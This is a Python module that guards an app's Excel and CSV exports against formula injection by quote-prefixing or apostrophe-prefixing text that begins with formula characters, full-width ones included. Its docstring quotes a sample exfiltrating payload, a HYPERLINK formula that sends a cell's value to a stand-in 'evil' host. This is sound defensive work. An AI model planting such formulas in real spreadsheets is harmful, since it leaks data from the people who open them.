"""User text in the spreadsheets the app writes is text, never a formula (CSV / formula injection).

A unit name such as `=HYPERLINK("http://evil/?"&A1, "点此")`, planted by whoever may rename units, would otherwise
run in every committee member's Excel or WPS that opens the assessment table. Excel, WPS and LibreOffice take a
cell for a formula when it starts with = + - @, with their full-width forms (Chinese input methods type ＝ and
WPS accepts it), or with a tab or line break that hides one; so does a leading space before any of these.

Every workbook and CSV file the app writes (ledger, assessment table, audit log, import template) puts text
through `write_text_cell` (openpyxl cells), `StreamingSheet` (tasks.services.xlsx_stream, which asks
`looks_like_formula`) or `csv_text`. In a workbook such text is stored as a string cell with Excel's own "quote
prefix" (the ' a person types before =): shown and printed exactly as written, and still text when someone edits
the cell. CSV has no cell types, so there the text gets a leading apostrophe.
"""

FORMULA_STARTS = frozenset("=+-@\t\r\n＝＋－＠")


def looks_like_formula(value) -> bool:
    return isinstance(value, str) and value.lstrip(" \u3000")[:1] in FORMULA_STARTS


def write_text_cell(cell, value):
    """Put `value` into an openpyxl cell (of a normal or a write-only sheet); text stays text. Returns the cell."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl makes a string that starts with "=" a formula
        if looks_like_formula(value):
            cell.quotePrefix = True
    return cell


def csv_text(value):
    """A value for a CSV cell: text that a spreadsheet would run gets a leading apostrophe."""
    return "'" + value if looks_like_formula(value) else value
